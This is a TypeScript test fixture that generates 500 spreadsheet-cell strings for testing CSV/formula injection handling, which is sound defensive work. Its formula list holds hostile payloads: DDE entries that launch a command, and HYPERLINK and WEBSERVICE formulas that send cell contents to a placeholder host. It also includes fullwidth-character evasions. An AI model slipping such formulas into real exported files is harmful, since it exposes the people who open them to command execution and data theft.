const FORMULAS = [
  '=1+1', '==1', '=SUM(A1:A9)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.test/?x="&A1,"open")', '=IMPORTXML("http://example.test","//a")',
  '=DDE("cmd";"/C calc";"!A0")', '=WEBSERVICE("http://example.test/"&A2)', '+1+1', "+cmd|' /C calc'!A0", '+A1', '-1+1', "-2+3+cmd|' /C calc'!A0", '-A1', '-1', '+49 30 123456',
  '@SUM(1,1)', '@A1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '﹦1+1', '=A1\n=A2', '={1;2}',
] as const
const BEFORE = ['', ' ', '   ', '\t', '\r', '\n', '\r\n', '\u00a0', '\u3000', '\u200b', '\ufeff', '"', "'", '""', ',', ';', '|', 'a,', 'a;', 'a"'] as const

/** 500 cells that a spreadsheet might evaluate, or that might break out of their cell: every formula behind every beginning. */
export const hostileCells: readonly string[] = BEFORE.flatMap((before) => FORMULAS.map((formula) => before + formula))
